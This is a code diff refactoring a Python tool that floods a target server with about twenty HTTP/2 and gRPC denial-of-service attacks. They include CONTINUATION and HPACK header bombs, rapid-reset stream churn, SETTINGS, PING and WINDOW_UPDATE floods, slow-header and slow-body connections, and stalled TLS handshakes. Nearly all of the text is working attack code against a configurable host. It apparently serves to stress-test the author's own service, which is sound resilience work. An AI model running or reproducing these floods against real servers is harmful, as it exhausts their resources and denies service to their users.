@@ -3,6 +3,8 @@ these. Run as a program, it attacks for some seconds and prints what it sent, as
 
 import argparse
 import collections
+import functools
+import itertools
 import json
 import pathlib
 import resource
@@ -115,6 +117,15 @@ def drain(connection):
         connection.settimeout(2)
 
 
+def in_threads(works):
+    """Runs all of them at the same time."""
+    workers = [threading.Thread(target=work) for work in works]
+    for worker in workers:
+        worker.start()
+    for worker in workers:
+        worker.join()
+
+
 def flood(target, pieces, threads=4, read=False, first=settings()):
     """Sends what `pieces(target)` yields as fast as it is taken, on so many connections; begins
     anew when one is ended, or takes nothing more. `read`: takes the answers."""
@@ -124,7 +135,7 @@ def flood(target, pieces, threads=4, read=False, first=settings()):
             connection = None
             try:
                 connection = target.connect(first)
-                for piece in pieces(target):
+                for piece in pieces():
                     connection.sendall(piece)
                     target.count("bytes", len(piece))
                     if read:
@@ -136,15 +147,11 @@ def flood(target, pieces, threads=4, read=False, first=settings()):
             finally:
                 if connection is not None:
                     connection.close()
-    workers = [threading.Thread(target=run) for _ in range(target.connections or threads)]
-    for worker in workers:
-        worker.start()
-    for worker in workers:
-        worker.join()
+    in_threads([run] * (target.connections or threads))
 
 
 def hold(target, number, begin, feed=None):
-    """Keeps so many connections that `begin(target)` makes, in as many threads as it takes to make
+    """Keeps so many connections that `begin()` makes, in as many threads as it takes to make
     them fast; `feed(connection)` is what each gets every second. Those that end are made anew."""
     number = target.connections or number
     each = [number // 8 + (i < number % 8) for i in range(8)]
@@ -154,7 +161,7 @@ def hold(target, number, begin, feed=None):
         while target.running():
             while len(held) < count and target.running():
                 try:
-                    held.append(begin(target))
+                    held.append(begin())
                 except OSError:
                     target.count("refused")
                     time.sleep(0.2)
@@ -163,7 +170,7 @@ def hold(target, number, begin, feed=None):
             for connection in held:
                 try:
                     if feed is not None:
-                        feed(target, connection)
+                        feed(connection)
                     else:
                         drain(connection)
                     alive.append(connection)
@@ -177,11 +184,30 @@ def hold(target, number, begin, feed=None):
         target.count("held at the end", len(held))
         for connection in held:
             connection.close()
-    workers = [threading.Thread(target=run, args=(count,)) for count in each if count]
-    for worker in workers:
-        worker.start()
-    for worker in workers:
-        worker.join()
+    in_threads([functools.partial(run, count) for count in each if count])
+
+
+def endless(piece, first=b""):
+    """`first`, then `piece` for ever."""
+    return lambda: itertools.chain([first] if first else [], itertools.repeat(piece))
+
+
+def churn(target, number, each):
+    """Begins so many calls at a time, for ever; `each(stream)` is the frames of one."""
+
+    def pieces():
+        for first in itertools.count(1, 2 * number):
+            target.count("calls", number)
+            yield b"".join(each(stream) for stream in range(first, first + 2 * number, 2))
+    flood(target, pieces, read=True)
+
+
+def with_calls(target, block, number=100, rest=lambda stream: b"", first=settings()):
+    """A connection with calls under way, each with `rest(stream)` behind its headers."""
+    connection = target.connect(first)
+    connection.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, block) + rest(stream)
+                                for stream in range(1, 2 * number, 2)))
+    return connection
 
 
 ATTACKS = {}
@@ -195,26 +221,14 @@ def attack(function):
 @attack
 def continuation(target):
     """Headers that never end, each small."""
-    small = (field("a", "") * 4096)[:16384 // 4 * 4]
-
-    def pieces(_):
-        yield frame(HEADERS, 0, 1, target.block(CHECK))
-        piece = frame(CONTINUATION, 0, 1, small) * 16
-        while True:
-            yield piece
-    flood(target, pieces)
+    small = field("a", "") * 4096
+    flood(target, endless(frame(CONTINUATION, 0, 1, small) * 16, frame(HEADERS, 0, 1, target.block(CHECK))))
 
 
 @attack
 def integers(target):
     """A number of HPACK that never ends."""
-
-    def pieces(_):
-        yield frame(HEADERS, 0, 1, b"\x7f")
-        piece = frame(CONTINUATION, 0, 1, b"\x80" * 16384) * 8
-        while True:
-            yield piece
-    flood(target, pieces)
+    flood(target, endless(frame(CONTINUATION, 0, 1, b"\x80" * 16384) * 8, frame(HEADERS, 0, 1, b"\x7f")))
 
 
 @attack
@@ -222,7 +236,7 @@ def header_bomb(target):
     """One large header in the table, then referred to as often as a frame holds."""
     large = b"\x40" + text(b"x") + text(b"y" * 4000)
 
-    def pieces(_):
+    def pieces():
         stream = 1
         while True:
             block = target.block(CHECK) + large + b"\xbe" * (16384 - 5000)
@@ -235,7 +249,7 @@ def header_bomb(target):
 def large_headers(target):
     """Calls with a megabyte of headers each."""
 
-    def pieces(_):
+    def pieces():
         stream = 1
         while True:
             yield frame(HEADERS, 0, stream, target.block(CHECK))
@@ -247,18 +261,8 @@ def large_headers(target):
 
 def resets(target, method):
     block = target.block(method)
-
-    def pieces(_):
-        stream = 1
-        while True:
-            out = bytearray()
-            for _ in range(100):
-                out += frame(HEADERS, END_HEADERS, stream, block)
-                out += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
-                stream += 2
-            target.count("calls", 100)
-            yield bytes(out)
-    flood(target, pieces, read=True)
+    churn(target, 100, lambda stream: frame(HEADERS, END_HEADERS, stream, block) +
+          frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
 
 
 @attack
@@ -277,63 +281,35 @@ def rapid_reset_with_token(target):
 def provoked_reset(target):
     """Has the server reset: a window that grows by nothing is an error of its stream."""
     block = target.block(CHECK)
-
-    def pieces(_):
-        stream = 1
-        while True:
-            out = bytearray()
-            for _ in range(100):
-                out += frame(HEADERS, END_HEADERS, stream, block)
-                out += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
-                stream += 2
-            target.count("calls", 100)
-            yield bytes(out)
-    flood(target, pieces, read=True)
+    churn(target, 100, lambda stream: frame(HEADERS, END_HEADERS, stream, block) +
+          frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))
 
 
 @attack
 def refused_calls(target):
     """Calls without a token, as fast as they are refused."""
     block = call_headers(GET_SCORE, None, target.host)
-
-    def pieces(_):
-        stream = 1
-        while True:
-            out = b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block) +
-                           frame(DATA, END_STREAM, stream + 2 * i, message()) for i in range(50))
-            stream += 100
-            target.count("calls", 50)
-            yield out
-    flood(target, pieces, read=True)
+    churn(target, 50, lambda stream: frame(HEADERS, END_HEADERS, stream, block) +
+          frame(DATA, END_STREAM, stream, message()))
 
 
 @attack
 def settings_flood(target):
     """Each wants an acknowledgement, which nobody reads."""
-
-    def pieces(_):
-        piece = b"".join(settings(initial_window=65535 + i % 7) for i in range(4096))
-        while True:
-            yield piece
-    flood(target, pieces)
+    flood(target, endless(b"".join(settings(initial_window=65535 + i % 7) for i in range(4096))))
 
 
 @attack
 def ping_flood(target):
     """Each wants an answer, which nobody reads."""
-
-    def pieces(_):
-        piece = frame(PING, 0, 0, b"12345678") * 4096
-        while True:
-            yield piece
-    flood(target, pieces)
+    flood(target, endless(frame(PING, 0, 0, b"12345678") * 4096))
 
 
 @attack
 def priority_flood(target):
     """Priorities of streams that are not there."""
 
-    def pieces(_):
+    def pieces():
         stream = 1
         while True:
             yield b"".join(frame(PRIORITY, 0, stream + 2 * i, struct.pack(">IB", 0, i & 255)) for i in range(4096))
@@ -344,38 +320,27 @@ def priority_flood(target):
 @attack
 def window_flood(target):
     """Windows that grow a byte at a time, of the connection and of a call."""
-
-    def pieces(_):
-        yield frame(HEADERS, END_HEADERS, 1, target.block(WATCH)) + frame(DATA, END_STREAM, 1, message())
-        one = struct.pack(">I", 1)
-        piece = (frame(WINDOW_UPDATE, 0, 0, one) + frame(WINDOW_UPDATE, 0, 1, one)) * 2048
-        while True:
-            yield piece
-    flood(target, pieces)
+    one = struct.pack(">I", 1)
+    flood(target, endless((frame(WINDOW_UPDATE, 0, 0, one) + frame(WINDOW_UPDATE, 0, 1, one)) * 2048,
+                          frame(HEADERS, END_HEADERS, 1, target.block(WATCH)) + frame(DATA, END_STREAM, 1, message())))
 
 
 @attack
 def empty_data(target):
     """Pieces of a message that have no bytes."""
-
-    def pieces(_):
-        yield frame(HEADERS, END_HEADERS, 1, target.block(CHECK))
-        piece = frame(DATA, 0, 1) * 4096
-        while True:
-            yield piece
-    flood(target, pieces)
+    flood(target, endless(frame(DATA, 0, 1) * 4096, frame(HEADERS, END_HEADERS, 1, target.block(CHECK))))
 
 
 @attack
 def slow_headers(target):
     """Headers of which a byte comes every second."""
 
-    def begin(_):
+    def begin():
         connection = target.connect()
         connection.sendall(frame(HEADERS, 0, 1, target.block(CHECK)))
         return connection
 
-    def feed(_, connection):
+    def feed(connection):
         connection.sendall(frame(CONTINUATION, 0, 1, field("a", "")))
     hold(target, 500, begin, feed)
 
@@ -385,14 +350,10 @@ def slow_bodies(target):
     """Batches of which a byte comes every second, a hundred on each connection."""
     block = target.block(INGEST)
 
-    def begin(_):
-        connection = target.connect()
-        connection.sendall(b"".join(
-            frame(HEADERS, END_HEADERS, 2 * i + 1, block) +
-            frame(DATA, 0, 2 * i + 1, b"\0" + struct.pack(">I", 15 << 20)) for i in range(100)))
-        return connection
+    def begin():
+        return with_calls(target, block, 100, lambda stream: frame(DATA, 0, stream, b"\0" + struct.pack(">I", 15 << 20)))
 
-    def feed(_, connection):
+    def feed(connection):
         drain(connection)
         connection.sendall(b"".join(frame(DATA, 0, 2 * i + 1, b"\n") for i in range(100)))
     hold(target, 50, begin, feed)
@@ -403,7 +364,7 @@ def large_bodies(target):
     """Batches of 15 MiB of which the end never comes, as much of each as is taken."""
     block = target.block(INGEST)
 
-    def pieces(_):
+    def pieces():
         yield b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) +
                        frame(DATA, 0, 2 * i + 1, b"\0" + struct.pack(">I", 15 << 20) + bytes(600)) for i in range(100))
         while True:
@@ -418,7 +379,7 @@ def stalled_handshakes(target):
     """Connections that begin to shake hands, and stop."""
     hello = bytes.fromhex("16030102000100") + b"\x01\xfc\x03\x03" + b"t" * 100
 
-    def begin(_):
+    def begin():
         connection = target.tcp()
         connection.sendall(hello)
         target.count("connections")
@@ -430,7 +391,7 @@ def stalled_handshakes(target):
 def slow_scores(target):
     """Watches of scores, and answers of the catalogue, that nobody reads: no window is given."""
 
-    def begin(_):
+    def begin():
         connection = target.connect(settings(initial_window=0))
         calls = b""
         for i in range(50):
@@ -447,52 +408,31 @@ def slow_streams(target):
     """Streams of activities whose answers nobody reads."""
     block = target.block(STREAM)
 
-    def begin(_):
-        connection = target.connect(settings(initial_window=0))
-        connection.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(50)))
-        return connection
-
-    def feed(_, connection):
+    def feed(connection):
         for i in range(50):
             connection.sendall(frame(DATA, 0, 2 * i + 1, message(target.body)))
-    hold(target, 40, begin, feed)
+    hold(target, 40, lambda: with_calls(target, block, 50, first=settings(initial_window=0)), feed)
 
 
 @attack
 def health_watches(target):
     """Watches of health without a token."""
     block = call_headers(WATCH, None, target.host)
-
-    def begin(_):
-        connection = target.connect()
-        connection.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) +
-                                    frame(DATA, END_STREAM, 2 * i + 1, message()) for i in range(100)))
-        return connection
-    hold(target, 60, begin)
+    hold(target, 60, lambda: with_calls(target, block, 100, lambda stream: frame(DATA, END_STREAM, stream, message())))
 
 
 @attack
 def open_checks(target):
     """Calls of health without a token whose message never comes."""
     block = call_headers(CHECK, None, target.host)
-
-    def begin(_):
-        connection = target.connect()
-        connection.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(100)))
-        return connection
-    hold(target, 60, begin)
+    hold(target, 60, lambda: with_calls(target, block))
 
 
 @attack
 def reflection_streams(target):
     """Calls of reflection without a token that ask for nothing."""
     block = call_headers(REFLECT, None, target.host)
-
-    def begin(_):
-        connection = target.connect()
-        connection.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(100)))
-        return connection
-    hold(target, 10, begin)
+    hold(target, 10, lambda: with_calls(target, block))
 
 
 @attack
@@ -500,7 +440,7 @@ def reflection_churn(target):
     """Calls of reflection that come and go."""
     block = call_headers(REFLECT, None, target.host)
 
-    def pieces(_):
+    def pieces():
         stream = 1
         while True:
             yield b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block) for i in range(50))
@@ -515,7 +455,7 @@ def idle(target):
     """Ten thousand connections that have nothing to say; a tenth have shaken hands."""
     made = iter(range(1 << 60))
 
-    def begin(_):
+    def begin():
         if next(made) % 10 == 0:
             return target.connect()
         target.count("connections")
